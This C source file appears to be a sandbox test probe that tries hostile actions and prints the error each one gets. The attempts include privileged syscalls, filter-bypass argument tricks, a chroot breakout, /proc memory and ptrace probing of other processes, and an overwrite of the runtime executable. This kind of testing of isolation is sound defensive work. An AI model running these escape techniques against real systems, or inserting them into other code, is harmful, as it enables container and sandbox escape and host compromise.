/* What a hostile payload tries. Linked statically; each attack prints lines "name errno". */

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef __X32_SYSCALL_BIT
#define __X32_SYSCALL_BIT 0x40000000
#endif

static void tell(const char *name, long result) {
    printf("%s %d\n", name, result < 0 ? errno : 0);
    fflush(stdout);
}

#define TRY(name, ...) (errno = 0, tell(name, syscall(__VA_ARGS__)))

static void calls(void) {
    char area[256] = {0};
    TRY("unshare_user", SYS_unshare, CLONE_NEWUSER);
    TRY("unshare_mount", SYS_unshare, CLONE_NEWNS);
    TRY("unshare_net", SYS_unshare, CLONE_NEWNET);
    TRY("setns", SYS_setns, open("/proc/self/ns/mnt", O_RDONLY), 0);
    TRY("mount", SYS_mount, "none", "/tmp", "tmpfs", 0, 0);
    TRY("remount", SYS_mount, "", "/proc/sys", "", 0x1020, 0);
    TRY("umount", SYS_umount2, "/proc/sys", 2);
    TRY("pivot_root", SYS_pivot_root, "/", "/");
    TRY("fsopen", 430, "tmpfs", 0);
    TRY("open_tree", 428, -100, "/", 1);
    TRY("move_mount", 429, -100, "/", -100, "/", 0);
    TRY("mount_setattr", 442, -100, "/proc/sys", 0, area, 32);
    TRY("keyctl", SYS_keyctl, 0, -3, 0);
    TRY("add_key", SYS_add_key, "user", "x", "y", 1, -2);
    TRY("request_key", SYS_request_key, "user", "x", 0, -2);
    TRY("bpf", SYS_bpf, 0, area, sizeof area);
    TRY("perf_event_open", SYS_perf_event_open, area, 0, -1, -1, 0);
    TRY("open_by_handle_at", SYS_open_by_handle_at, -100, area, 0);
    TRY("kexec_load", SYS_kexec_load, 0, 0, 0, 0);
    TRY("userfaultfd", SYS_userfaultfd, 0);
    TRY("init_module", SYS_init_module, area, 1, "");
    TRY("finit_module", SYS_finit_module, 0, "", 0);
    TRY("reboot", SYS_reboot, 0xfee1dead, 672274793, 0, 0);
    TRY("swapon", SYS_swapon, "/x", 0);
    TRY("acct", SYS_acct, 0);
    TRY("syslog", SYS_syslog, 3, area, 16);
    TRY("settimeofday", SYS_settimeofday, area, 0);
    TRY("sethostname", SYS_sethostname, "x", 1);
    TRY("quotactl", SYS_quotactl, 0, 0, 0, 0);
    TRY("io_uring_setup", 425, 1, area);
    TRY("pidfd_getfd", 438, 0, 0, 0);
    TRY("personality", SYS_personality, 0x0040000);
    TRY("clone_user", SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    TRY("clone_user_high", SYS_clone, (1UL << 40) | CLONE_NEWNET | SIGCHLD, 0, 0, 0, 0);
    TRY("clone3", 435, area, 88);
    TRY("socket_alg", SYS_socket, 38, SOCK_SEQPACKET, 0);
    TRY("socket_alg_high", SYS_socket, (1UL << 32) | 38, SOCK_SEQPACKET, 0);
    TRY("socket_vsock", SYS_socket, 40, SOCK_STREAM, 0);
    TRY("socket_vsock_high", SYS_socket, (1UL << 63) | 40, SOCK_STREAM, 0);
    TRY("socket_packet", SYS_socket, AF_PACKET, SOCK_RAW, 0);
    TRY("socket_raw", SYS_socket, AF_INET, SOCK_RAW, 1);
    TRY("tiocsti", SYS_ioctl, 0, 0x5412, "x");
    TRY("tiocsti_high", SYS_ioctl, 0, (1UL << 32) | 0x5412, "x");
    TRY("tioclinux", SYS_ioctl, 0, 0x541c, area);
    TRY("tioclinux_high", SYS_ioctl, 0, (1UL << 63) | 0x541c, area);
    TRY("mknod_mem", SYS_mknodat, -100, "/mem", S_IFCHR | 0600, makedev(1, 1));
    TRY("mknod_disk", SYS_mknodat, -100, "/disk", S_IFBLK | 0600, makedev(254, 0));
    TRY("unknown", 9999);
#ifdef __x86_64__
    TRY("iopl", SYS_iopl, 3);
    TRY("ioperm", SYS_ioperm, 0, 1, 1);
    TRY("x32_getpid", __X32_SYSCALL_BIT + SYS_getpid);
    TRY("x32_unshare", __X32_SYSCALL_BIT + SYS_unshare, CLONE_NEWUSER);
#endif
    TRY("getpid", SYS_getpid);
}

/* An i386 call from a 64-bit process: says the signal that ended it. */
static void int80(void) {
#ifdef __x86_64__
    pid_t child = fork();
    if (child == 0) {
        long result;
        __asm__ volatile("int $0x80" : "=a"(result) : "a"(20) : "memory");
        _exit(0);
    }
    int status;
    waitpid(child, &status, 0);
    printf("signal %d\n", WIFSIGNALED(status) ? WTERMSIG(status) : 0);
#endif
}

/* The classical way out of a chroot: keep a descriptor from outside, go up from there. */
static void chroot_out(const char *canary) {
    mkdir("/cage", 0700);
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/cage") < 0) {
        tell("chroot", -1);
        return;
    }
    fchdir(outside);
    for (int i = 0; i < 100; i++)
        chdir("..");
    chroot(".");
    tell("own", access("/etc/passwd", F_OK));
    tell("host", access(canary, F_OK));
}

/* Descriptors that this process was born with, beside 0, 1 and 2. */
static void descriptors(void) {
    int found = 0;
    for (int fd = 3; fd < 4096; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            found++;
    printf("descriptors %d\n", found);
}

/* The executable of a process, or "gone" for one that is ending: it has no memory any more. */
static const char *executable(int pid) {
    static char link[4096];
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t size = readlink(path, link, sizeof link - 1);
    if (size < 0)
        return errno == ENOENT || errno == ESRCH ? "gone" : "hidden";
    link[size] = 0;
    return link;
}

/* Watches every other process from its first moment: what of it can be reached? */
static void watch(int rounds) {
    char path[64], link[4096];
    const char *names[] = {"exe", "cwd", "root", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8"};
    int seen = 0;
    for (int round = 0; round < rounds; round++) {
        for (int pid = 2; pid < 3000; pid++) {
            if (kill(pid, 0) < 0)
                continue;
            if (!seen++)
                printf("seen\n");
            for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
                snprintf(path, sizeof path, "/proc/%d/%s", pid, names[i]);
                ssize_t size = readlink(path, link, sizeof link - 1);
                if (size <= 0)
                    continue;
                link[size] = 0;
                printf("link %s %s\n", names[i], link);
                int fd = open(path, O_RDWR);
                if (fd >= 0) {
                    printf("writable %s\n", link);
                    close(fd);
                }
            }
            snprintf(path, sizeof path, "/proc/%d/mem", pid);
            int memory = open(path, O_RDWR);
            if (memory >= 0) {
                printf("memory %s\n", executable(pid));
                close(memory);
            }
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
                printf("traced %s\n", executable(pid));
        }
        while (waitpid(-1, 0, WNOHANG) > 0)
            ;
    }
}

/* Descriptor 9 is the executable that ran before: writes to it as soon as the kernel lets go of it. */
static void overwrite(void) {
    int last = 0;
    char link[4096] = "";
    printf("began\n");
    if (readlink("/proc/self/fd/9", link, sizeof link - 1) > 0)
        printf("program %s\n", link);
    fflush(stdout);
    for (long i = 0; i < 500000; i++) {
        int fd = open("/proc/self/fd/9", O_WRONLY);
        if (fd >= 0) {
            printf("overwritten %zd\n", write(fd, "#!/bin/echo owned\n", 18));
            return;
        }
        last = errno;
    }
    printf("refused %d\n", last);
}

/* Whose rights a program with the set-user-ID bit gets. */
static void ids(void) { printf("%d %d\n", getuid(), geteuid()); }

int main(int count, char **words) {
    const char *attack = count > 1 ? words[1] : "";
    setvbuf(stdout, 0, _IOLBF, BUFSIZ);
    if (!strcmp(attack, "calls"))
        calls();
    else if (!strcmp(attack, "int80"))
        int80();
    else if (!strcmp(attack, "chroot"))
        chroot_out(words[2]);
    else if (!strcmp(attack, "descriptors"))
        descriptors();
    else if (!strcmp(attack, "watch"))
        watch(atoi(words[2]));
    else if (!strcmp(attack, "overwrite"))
        overwrite();
    else if (!strcmp(attack, "ids"))
        ids();
    return 0;
}
